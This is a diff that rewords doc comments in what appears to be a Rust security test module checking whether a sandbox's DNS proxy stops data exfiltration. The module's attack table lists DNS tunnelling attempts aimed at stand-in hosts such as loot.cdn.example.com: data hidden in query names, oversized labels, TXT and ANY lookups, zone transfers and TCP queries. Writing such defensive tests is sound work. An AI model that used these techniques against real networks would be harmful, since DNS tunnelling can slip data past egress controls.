@@ -1,6 +1,6 @@
-//! Attacks on the name server inside: to be heard outside by what is asked, or to hear something by what is answered.
+//! Attacks on the name server inside: sending data out in questions, or receiving data in answers.
 //!
-//! The control is a name server as every machine has one: it passes each question on, and the answer back.
+//! The control is an ordinary name server that forwards every question and answer.
 
 use std::io::{self, Read, Write};
 use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
@@ -22,11 +22,11 @@ use crate::stage::{Stage, to_json, verdict};
 
 const SERVER: &str = "127.0.0.1:53";
 const PATIENCE: Duration = Duration::from_secs(5);
-/// What may be known.
+/// The policy.
 const POLICY: &str =
     "version: 1\nnet: {enabled: true, dns: stub, allowlist: [files.example.com, \"*.cdn.example.com\"]}\n";
 
-/// Name, what it tries, and how.
+/// Name, description and function of each attack.
 pub(super) const ATTACKS: &[(&str, &str, Run)] = &[
     ("proxy_names_unlisted", "carry data out in a name that is not listed", |_| ask("loot.vault.example.com", 1)),
     ("proxy_names_wildcard", "carry it out in a name below a listed wildcard", |_| ask("loot.cdn.example.com", 1)),
@@ -34,8 +34,8 @@ pub(super) const ATTACKS: &[(&str, &str, Run)] = &[
         let label = format!("loot{}", "a".repeat(59));
         ask(&format!("{label}.{label}.{label}.cdn.example.com"), 1)
     }),
-    ("proxy_names_text", "hear something by a TXT record", |_| ask("loot.cdn.example.com", 16)),
-    ("proxy_names_any", "hear all there is of a name", |_| ask("loot.files.example.com", 255)),
+    ("proxy_names_text", "receive data in a TXT record", |_| ask("loot.cdn.example.com", 16)),
+    ("proxy_names_any", "receive all records of a name", |_| ask("loot.files.example.com", 255)),
     ("proxy_names_transfer", "have a zone transferred", |_| ask_by_stream("loot.cdn.example.com", 252)),
     ("proxy_names_stream", "carry data out in a name asked for over TCP", |_| ask_by_stream("loot.cdn.example.com", 1)),
     ("proxy_names_upper", "the same in capital letters, listed in small ones", |_| ask("loot.CDN.Example.COM", 28)),
@@ -75,7 +75,7 @@ fn ask_by_stream(name: &str, kind: u16) -> Verdict {
     heard(exchange())
 }
 
-/// Whether more came back than an answer of ours has: the question is in it, so only what follows counts.
+/// Returns whether an answer contains more than the question and our own answer.
 fn heard(answer: io::Result<Vec<u8>>) -> Verdict {
     match answer {
         Ok(bytes) if bytes.ends_with(LOOT.as_bytes()) => Verdict::Succeeded("an answer came from outside".into()),
@@ -83,7 +83,7 @@ fn heard(answer: io::Result<Vec<u8>>) -> Verdict {
     }
 }
 
-/// Carries out one attack in a sandbox: its name server is ours, or as a control one that passes everything on.
+/// Runs one attack in a sandbox with our name server, or as a control with one that forwards everything.
 pub(super) fn carry_out(stage: &Stage, name: &str, place: Place) -> Verdict {
     let scene = stage.scene();
     let sandbox = stage.sandbox(Walls::Named, &scene.workspace()).expect("sandbox");
@@ -135,7 +135,7 @@ fn attach(stage: &Stage, listener: TcpListener, names: DnsSockets, outside: Arc<
     Egress::new(outside).attach(listener, identity).expect("proxy")
 }
 
-/// The world, which remembers whatever it is asked for.
+/// The outside name server, which records every question.
 #[derive(Default)]
 struct Outside(Mutex<Vec<String>>);
 
@@ -161,7 +161,7 @@ impl Internet for Outside {
     }
 }
 
-/// Passes every question on, and answers with what came back.
+/// Forwards every question, and returns the answer.
 fn careless(
     tasks: &mut JoinSet<()>,
     streams: TcpListener,
